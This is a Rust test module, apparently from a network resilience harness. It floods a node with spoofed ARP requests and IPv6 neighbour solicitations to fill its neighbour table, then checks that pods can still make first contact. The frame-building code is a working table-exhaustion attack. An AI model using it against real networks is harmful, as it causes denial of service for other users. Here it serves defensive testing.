//! Questions of the neighbourhood (ARP, NDP) from addresses that are made up: an entry each in the node's table. The first
//! contact of others with a pod must succeed.

use crate::device::{Device, Left};
use crate::fair::arena::{Arena, HTTP};
use crate::fair::victim::Victim;
use crate::fair::{Assault, Attack};
use crate::pods::Family;
use anyhow::{Result, ensure};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::time::Duration;

pub(super) const ATTACK: Attack = Attack {
    name: "made-up senders of ARP and NDP",
    bound: "senders are the endpoint's own addresses",
    port: HTTP,
    head_start: |scale| scale.actions_max / 50,
    work,
    check,
};

const GATEWAY_V4: Ipv4Addr = Ipv4Addr::new(169, 254, 1, 1);
const GATEWAY_V6: Ipv6Addr = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 1);
/// With a pause behind every so many: some thousand in a second, as one sender makes without an effort.
const BURST: u32 = 20;
const FIRST_CONTACTS: usize = 10;
const PAUSE: Duration = Duration::from_millis(4);

fn work(assault: &Assault) -> Result<()> {
    let device = Device::open()?;
    let mut number = 0_u32;
    while assault.goes_on() {
        number = number.wrapping_add(1);
        let frame = match assault.to.ip() {
            IpAddr::V4(_) => who_has(Ipv4Addr::from_bits(0x0a0f_8000 | (number & 0x7fff))),
            IpAddr::V6(_) => {
                solicitation(Ipv6Addr::from_bits((0xfe80 << 112) | (7 << 32) | u128::from(number)))
            }
        };
        // A full queue of the device is no end of the attack.
        let _sent = device.send(Left::default(), &frame);
        if number.is_multiple_of(BURST) {
            std::thread::sleep(PAUSE);
        }
    }
    Ok(())
}

/// First contacts: the node forgets both ends' hardware addresses, and must learn them again among the flood.
fn check(arena: &Arena, family: Family) -> Result<()> {
    for _ in 0..FIRST_CONTACTS {
        for pod in ["server", "victim"] {
            let interface = arena.node.pod(pod).spec.interface();
            arena.node.namespace.ip(&format!("neigh flush dev {interface}"))?;
        }
        let asked = Victim::connectionless(arena, family).ask(1)?;
        ensure!(asked.lost.is_empty(), "a first contact failed: {}", asked.lost.join(", "));
    }
    Ok(())
}

/// To everybody, from a hardware address that is nobody's.
fn ethernet(to: [u8; 6], kind: u16) -> Vec<u8> {
    let mut frame = Vec::from(to);
    frame.extend([2, 0, 0, 0, 0, 7]);
    frame.extend(kind.to_be_bytes());
    frame
}

fn who_has(from: Ipv4Addr) -> Vec<u8> {
    let mut frame = ethernet([0xff; 6], 0x0806);
    frame.extend([0, 1, 8, 0, 6, 4, 0, 1, 2, 0, 0, 0, 0, 7]);
    frame.extend(from.octets());
    frame.extend([0; 6]);
    frame.extend(GATEWAY_V4.octets());
    frame
}

/// Of the gateway's address, with the sender's hardware address as the option that fills the table.
fn solicitation(from: Ipv6Addr) -> Vec<u8> {
    const ICMPV6: u8 = 58;
    let to = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 1, 0xff00, 1);
    let mut message = vec![135, 0, 0, 0, 0, 0, 0, 0];
    message.extend(GATEWAY_V6.octets());
    message.extend([1, 1, 2, 0, 0, 0, 0, 7]);
    let mut sum: u32 = 32 + u32::from(ICMPV6);
    let summed = [&from.octets()[..], &to.octets(), &message].concat();
    for word in summed.chunks(2) {
        let [high, low] =
            [word.first(), word.get(1)].map(|byte| u32::from(byte.copied().unwrap_or_default()));
        sum += (high << 8) | low;
    }
    let folded = (sum & 0xffff) + (sum >> 16);
    let [_, _, high, low] = (!((folded & 0xffff) + (folded >> 16))).to_be_bytes();
    let mut frame = ethernet([0x33, 0x33, 0xff, 0, 0, 1], 0x86dd);
    frame.extend([0x60, 0, 0, 0, 0, 32, ICMPV6, 255]);
    frame.extend(from.octets());
    frame.extend(to.octets());
    let (start, rest) = message.split_at(2);
    frame.extend(start);
    frame.extend([high, low]);
    frame.extend(rest.iter().skip(2));
    frame
}
